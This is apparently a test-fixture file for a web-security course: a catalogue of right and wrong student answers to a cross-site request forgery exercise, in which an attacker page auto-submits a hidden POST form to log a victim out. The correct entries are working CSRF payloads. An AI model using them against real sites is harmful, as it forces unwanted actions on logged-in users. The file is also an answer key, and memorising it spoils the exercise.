"""Answers to lesson 07's attack 7.A2 (a form from another site): Mallory's page, which logs Alice out of stage 6.

The wrong ones were written from the lesson's text alone, as a student who misread it would write them: each
gets the ❌ that names its mistake. The check plays Alice's browser: it reads the page without running its
scripts, finds the form a script submits as the page loads, reads its action against Mallory's page's own
address, and sends it to the app with Alice's cookies.
"""
from . import Mutant


def page(form='<form id="prize" action="{app_url}/logout" method="post"></form>',
         script='<script>document.getElementById("prize").submit()</script>'):
    """A mallorys_page answer whose page holds ``form`` and ``script`` (``{app_url}`` filled in)."""
    return f'''
def mallorys_page(app_url):
    return f"""<!doctype html>
<title>You won a prize!</title>
<h1>Claim your prize</h1>
{form}
{script}
"""
'''


MUTANTS = [
    Mutant("7.A2", "a form submitted by getElementById", page(), True),
    Mutant("7.A2", "document.forms[0] on the body's onload, a hidden field too", '''
def mallorys_page(app_url):
    return (
        '<body onload="document.forms[0].submit()">'
        f'<form action="{app_url}/logout" method="POST"><input type="hidden" name="prize" value="yes"></form>'
        "</body>"
    )
''', True),
    Mutant("7.A2", "urljoin and a named form", '''
from urllib.parse import urljoin

def mallorys_page(app_url):
    action = urljoin(app_url, "/logout")
    return f"""<form name="win" method="post" action="{action}"><button>Claim</button></form>
<script>document.forms.win.submit();</script>"""
''', True),
    Mutant("7.A2", "a <base href> and a relative action", page(
        form='<base href="{app_url}/"><form method="post" action="logout"></form>',
        script='<script>document.querySelector("form").submit()</script>'), True),
    # --- wrong: each from a sentence of the lesson read one way too far
    Mutant("7.A2", "no method: a form is a GET by default", page(
        form='<form id="prize" action="{app_url}/logout"></form>'), False, "sent GET"),
    Mutant("7.A2", "method get, written out", page(
        form='<form id="prize" action="{app_url}/logout" method="get"></form>'), False, "sent GET"),
    Mutant("7.A2", "a relative action: /logout on Mallory's own server", page(
        form='<form id="prize" action="/logout" method="post"></form>'), False, "Mallory's own server"),
    Mutant("7.A2", "no action at all: the form goes back to Mallory's page", page(
        form='<form id="prize" method="post"></form>'), False, "Mallory's own server"),
    Mutant("7.A2", "the wrong path", page(
        form='<form id="prize" action="{app_url}/log-out" method="post"></form>'), False, "no such page"),
    Mutant("7.A2", "POST to the dashboard", page(
        form='<form id="prize" action="{app_url}/dashboard" method="post"></form>'), False, "405"),
    Mutant("7.A2", "a form Alice has to press", page(
        form='<form action="{app_url}/logout" method="post"><button>Claim your prize</button></form>',
        script=""), False, "press"),
    Mutant("7.A2", "submitted on click", page(
        form='<form action="{app_url}/logout" method="post">'
             '<button type="button" onclick="this.form.submit()">Claim</button></form>',
        script=""), False, "press"),
    Mutant("7.A2", "the script above the form it submits", page(
        form='<script>document.getElementById("prize").submit()</script>',
        script='<form id="prize" action="{app_url}/logout" method="post"></form>'), False,
        "before the browser has read the form"),
    Mutant("7.A2", "in the head, waiting for DOMContentLoaded", '''
def mallorys_page(app_url):
    return f"""<html><head><script>
document.addEventListener("DOMContentLoaded", function () {{ document.forms[0].submit(); }});
</script></head>
<body><form action="{app_url}/logout" method="post"></form></body></html>"""
''', True),
    Mutant("7.A2", "a link", '''
def mallorys_page(app_url):
    return f'<a href="{app_url}/logout">You won a prize! Click here</a>'
''', False, "a link"),
    Mutant("7.A2", "an image: a GET as the page loads", '''
def mallorys_page(app_url):
    return f'<h1>Cute cats</h1><img src="{app_url}/logout" alt="">'
''', False, "sent GET"),
    Mutant("7.A2", "the lesson's port hard-coded", page(
        form='<form id="prize" action="http://127.0.0.1:5006/logout" method="post"></form>'), False,
        "build the address from app_url"),
    Mutant("7.A2", "no / between app_url and logout", page(
        form='<form id="prize" action="{app_url}logout" method="post"></form>'), False, "the port runs into the path"),
    Mutant("7.A2", "https in front of the app's address", '''
def mallorys_page(app_url):
    address = app_url.replace("http://", "https://") + "/logout"
    return f"""<form id="f" action="{address}" method="post"></form><script>document.getElementById("f").submit()</script>"""
''', False, "another scheme"),
    Mutant("7.A2", "localhost for 127.0.0.1", '''
def mallorys_page(app_url):
    address = app_url.replace("127.0.0.1", "localhost") + "/logout"
    return f"""<form id="f" action="{address}" method="post"></form><script>document.getElementById("f").submit()</script>"""
''', False, "another host"),
    Mutant("7.A2", "fetch() from a script", '''
def mallorys_page(app_url):
    return f"""<script>fetch("{app_url}/logout", {{method: "POST", credentials: "include", mode: "no-cors"}})</script>"""
''', False, "fetch()"),
    Mutant("7.A2", "the page as bytes", '''
def mallorys_page(app_url):
    return f"""<form id="f" action="{app_url}/logout" method="post"></form>
<script>document.getElementById("f").submit()</script>""".encode()
''', False, "as a str"),
    # From the review (written from the lesson text before reading the check): a submit() that a browser would
    # never run, or that finds no method to call; each got ✅ from a check that did not run scripts.
    Mutant("7.A2", "the submit() in a function nothing calls", page(
        script='<script>function claim() {{ document.getElementById("prize").submit(); }}</script>'),
        False, "a function nothing calls"),
    Mutant("7.A2", "the submit() commented out", page(
        script='<script>// document.getElementById("prize").submit()\n</script>'), False, "in a comment"),
    Mutant("7.A2", "a <script> of another type", page(
        script='<script type="text/plain">document.getElementById("prize").submit()</script>'),
        False, "whose type is not JavaScript"),
    Mutant("7.A2", "the submit() on a form id the page does not have", page(
        script='<script>document.getElementById("prise").submit()</script>'), False, "a form the page does not have"),
    Mutant("7.A2", "a button named submit hides form.submit()", page(
        form='<form id="prize" action="{app_url}/logout" method="post">'
             '<input type="submit" name="submit" value="Claim"></form>'), False, "a control named submit"),
    Mutant("7.A2", "the form kept inside <noscript>", page(
        form='<noscript><form id="prize" action="{app_url}/logout" method="post"></form></noscript>'),
        False, "<noscript>"),
    Mutant("7.A2", "a function called from the body's onload", '''
def mallorys_page(app_url):
    return f"""<body onload="claim()"><form id="f" action="{app_url}/logout" method="post"></form>
<script>function claim() {{ document.getElementById("f").submit(); }} // no click needed</script></body>"""
''', True),
    Mutant("7.A2", "only a script that says what it would do", '''
def mallorys_page(app_url):
    return "<p>Alice is logged out now.</p><script>console.log('logout')</script>"
''', False, "sends nothing"),
    # Issue 22, second catalogue (2026-12-06): written from the lesson text
    Mutant("7.A2", "submitted from a setTimeout", page(
        script='<script>setTimeout(function () {{ document.getElementById("prize").submit(); }}, 0)</script>'), True),
    Mutant("7.A2", "requestSubmit() instead of submit()", page(
        script='<script>document.getElementById("prize").requestSubmit()</script>'), True),
    Mutant("7.A2", "a meta refresh to /logout", """
def mallorys_page(app_url):
    return f'<meta http-equiv="refresh" content="0; url={app_url}/logout"><h1>Loading your prize...</h1>'
""", False, "sent GET"),
    Mutant("7.A2", "submitted on the first click anywhere on the page", page(
        script='<script>document.addEventListener("click", function () {{ document.getElementById("prize").submit(); }})'
               '</script>'), False, "press"),
    Mutant("7.A2", "submitted when the mouse passes over the heading", page(
        script='<script>document.querySelector("h1").onmouseover = function () {{ '
               'document.getElementById("prize").submit(); }}</script>'), False, "press"),
    Mutant("7.A2", "a trailing / after logout", page(
        form='<form id="prize" action="{app_url}/logout/" method="post"></form>'), False, "no such page"),
    Mutant("7.A2", "the browser sent to /logout by location.href", """
def mallorys_page(app_url):
    return f'<h1>Your prize</h1><script>location.href = "{app_url}/logout"</script>'
""", False, "GET"),
    Mutant("7.A2", "method put, for a change of state", page(
        form='<form id="prize" action="{app_url}/logout" method="put"></form>'), False, "sent GET"),
    Mutant("7.A2", "submitted once Alice confirms", page(
        script='<script>if (confirm("Claim your prize?")) document.getElementById("prize").submit()</script>'),
        False, "press"),
    Mutant("7.A2", "an alert first, then the submit()", page(
        script='<script>alert("You won!"); document.getElementById("prize").submit()</script>'), False, "press"),
    Mutant("7.A2", "the submit(), then an alert that says so", page(
        script='<script>document.getElementById("prize").submit(); alert("Sent!")</script>'), True),
    Mutant("7.A2", "a page that tells her to confirm, in its text", page(
        form='<p>Please confirm (no need to click) your prize.</p>'
             '<form id="prize" action="{app_url}/logout" method="post"></form>'), True),
]
